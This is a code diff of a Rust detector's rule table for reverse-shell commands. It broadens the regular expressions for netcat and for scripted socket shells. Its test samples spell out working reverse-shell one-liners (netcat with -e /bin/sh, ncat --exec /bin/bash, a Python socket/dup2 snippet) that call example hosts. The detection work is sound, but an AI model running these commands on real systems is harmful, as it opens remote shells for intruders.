@@ -27,7 +27,7 @@ pub(super) const RULES: &[Rule] = &[
     Rule {
         id: "revshell_netcat",
         wake: Wake::Keywords(&["nc ", "ncat ", "netcat ", "nc.exe"]),
-        pattern: r"(?-u:\b)(?:nc|ncat|netcat|nc\.traditional|nc\.exe) (?:[^\n|;]{0,80} )?(?:-[a-z]{0,6}e|--exec|--sh-exec|-[a-z]{0,6}c) {1,2}[\x22']?(?:/(?:usr/)?bin/)?(?:ba|z|da)?(?:sh|cmd(?:\.exe)?|powershell)",
+        pattern: r"(?-u:\b)(?:nc|ncat|netcat|nc\.traditional|nc\.exe) (?:[^\n|;]{0,80} )?(?:-[a-z]{0,6}e|--exec|--sh-exec|-[a-z]{0,6}c) {1,2}[\x22']?(?:/(?:usr/)?bin/)?(?:ba|z|da)?(?:sh|cmd(?:\.exe)?|powershell)|(?-u:\b)(?:nc|ncat|netcat) [^\n|]{1,80}\| {0,2}/bin/(?:ba)?sh(?-u:\b)",
         matches: &[
             "nc -e /bin/sh 198.51.100.7 4444",
             "ncat a.example 443 --exec /bin/bash",
@@ -47,7 +47,7 @@ pub(super) const RULES: &[Rule] = &[
     Rule {
         id: "revshell_script",
         wake: Wake::Keywords(&["socket", "fsockopen", "tcpclient", "net.connect", "net.dial", "io::socket"]),
-        pattern: r#"(?i)(?:socket\.socket\([\x00-\x7f]{0,300}(?:os\.dup2|pty\.spawn|subprocess\.(?:call|Popen|run)\(\s{0,2}\[?\s{0,2}["']/bin/)|(?:os\.dup2|pty\.spawn)\([\x00-\x7f]{0,200}\.connect\(|fsockopen\s{0,2}\([\x00-\x7f]{0,160}(?:exec|shell_exec|proc_open|system|passthru|popen)\s{0,2}\(|socket\([\x00-\x7f]{0,200}(?:open\(STDIN|exec\s{0,2}\(?\{?["']/bin/(?:ba)?sh)|TCPSocket\.(?:new|open)\([\x00-\x7f]{0,200}(?:/bin/(?:ba)?sh|IO\.popen|exec)|TCPClient\([\x00-\x7f]{0,400}(?:GetStream|StreamReader)[\x00-\x7f]{0,400}(?:iex|Invoke-Expression|cmd\.exe)|net\.connect\([\x00-\x7f]{0,200}\.pipe\([a-z]{1,12}\.stdin|net\.Dial\([\x00-\x7f]{0,200}exec\.Command\(\s{0,2}["'](?:/bin/(?:ba)?sh|cmd)|IO::Socket::INET[\x00-\x7f]{0,200}(?:exec|system|/bin/sh))"#,
+        pattern: r#"(?i)(?:socket\.socket\([\x00-\x7f]{0,300}(?:os\.dup2|pty\.spawn|subprocess\.(?:call|Popen|run)\(\s{0,2}\[?\s{0,2}["']/bin/)|(?:os\.dup2|pty\.spawn)\([\x00-\x7f]{0,200}\.connect\(|fsockopen\s{0,2}\([\x00-\x7f]{0,160}(?:exec|shell_exec|proc_open|system|passthru|popen)\s{0,2}\(|socket\([\x00-\x7f]{0,200}(?:open\(STDIN|exec\s{0,2}\(?\{?["']/bin/(?:ba)?sh)|TCPSocket\.(?:new|open)\([\x00-\x7f]{0,200}(?:/bin/(?:ba)?sh|IO\.popen|exec)|TCPClient\([\x00-\x7f]{0,400}(?:GetStream|StreamReader)[\x00-\x7f]{0,400}(?:iex|Invoke-Expression|cmd\.exe)|net\.connect\([\x00-\x7f]{0,200}\.pipe\([a-z]{1,12}\.stdin|net\.Dial\([\x00-\x7f]{0,200}exec\.Command\(\s{0,2}["'](?:/bin/(?:ba)?sh|cmd)|spawn\([\x22'](?:/bin/)?(?:ba)?sh[\x22'][ -~]{0,80}TCPSocket|socket[ -~]{0,200}os\.execute\([\x22']/bin/(?:ba)?sh|IO::Socket::INET[\x00-\x7f]{0,200}(?:exec|system|/bin/sh))"#,
         reach: 1500,
         matches: &[
             "python -c 'import socket,os;s=socket.socket();s.connect((\"198.51.100.7\",4444));os.dup2(s.fileno(),0)'",
